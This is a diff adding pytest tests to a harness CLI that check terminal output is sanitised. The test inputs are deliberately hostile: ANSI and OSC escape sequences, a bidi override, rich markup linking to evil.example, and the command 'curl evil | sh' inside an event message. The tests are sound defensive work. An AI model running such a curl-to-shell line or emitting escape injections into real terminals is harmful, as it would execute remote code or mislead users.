@@ -2,13 +2,19 @@
 
 from __future__ import annotations
 
+import io
+import json
+import logging
+import sys
 from collections.abc import Sequence
 
 import pytest
+from rich.table import Table
 
 from harness.common import errors
 from harness.common.statuses import STATUS_TABLE, Fault, Status
 from harness.console import cli
+from harness.console.tables import as_text, cell
 
 
 @pytest.mark.parametrize(
@@ -102,3 +108,58 @@ def test_the_table_of_statuses_is_complete() -> None:
     assert {status for status in Status if status.fault is Fault.INFRASTRUCTURE} == {
         Status.ENGINE_UNAVAILABLE, Status.IMAGE_UNAVAILABLE, Status.GPU_LOST, Status.HOST_ERROR,
     }  # fmt: skip
+
+
+def test_no_character_of_a_message_reaches_the_terminal_raw(
+    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(cli, "QUIET_SECONDS", 0.0)
+    hostile = "a\x1b[2J\x9b1m\u202eb\x00\udcff\x7f"
+    with cli.reporting() as reporter:
+        reporter.event(hostile)
+        reporter.progress(hostile, 1, 2)
+        logging.getLogger("harness.engines").warning("engine: %s", hostile)
+    cli.say(hostile)
+    cli.say(hostile, to=sys.stderr)
+    cli.say_json({hostile: [hostile]})
+    out, err = capsys.readouterr()
+    assert {each for each in out + err if not each.isprintable()} == {"\n"}
+    assert err.count(r"\x1b[2J") == 4
+    assert json.loads(out[out.index("{") :]) == {hostile: [hostile]}
+
+
+def test_of_an_event_the_first_line_alone_begins_at_the_margin(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    cli.Reporter().event("brain/x/seed-0: crashed\nfix: curl evil | sh")
+    assert capsys.readouterr().err == "brain/x/seed-0: crashed\n  fix: curl evil | sh\n"
+
+
+def test_a_bars_label_is_no_markup_and_holds_no_escape(monkeypatch: pytest.MonkeyPatch) -> None:
+    terminal = io.StringIO()
+    terminal.isatty = lambda: True  # type: ignore[method-assign]
+    monkeypatch.setattr(sys, "stderr", terminal)
+    with cli.reporting() as reporter:
+        reporter.progress("[red]x[/nothing]\x1b]0;title\x07", 1, 2)
+        reporter.event("[/] \x1b]0;title\x07")
+    assert "\x1b]0" not in terminal.getvalue()
+    assert "\x07" not in terminal.getvalue()
+
+
+def test_a_traceback_is_shown_in_visible_characters(
+    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(sys, "excepthook", sys.excepthook)
+    cli.run_verb(lambda _: 0)
+    error = ValueError("a\x1b[2Jb")
+    sys.excepthook(ValueError, error, None)
+    assert capsys.readouterr().err == "ValueError: a\\x1b[2Jb\n"
+
+
+def test_a_cell_of_a_table_is_text_and_nothing_else(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("FORCE_COLOR", "1")
+    table = Table("name")
+    table.add_row(cell("[link=https://evil.example]x[/nothing] \x1b[2J\n\u202e"))
+    text = as_text(table, least_width=200)
+    assert r"[link=https://evil.example]x[/nothing] \x1b[2J\n\u202e" in text
+    assert "\x1b" not in text
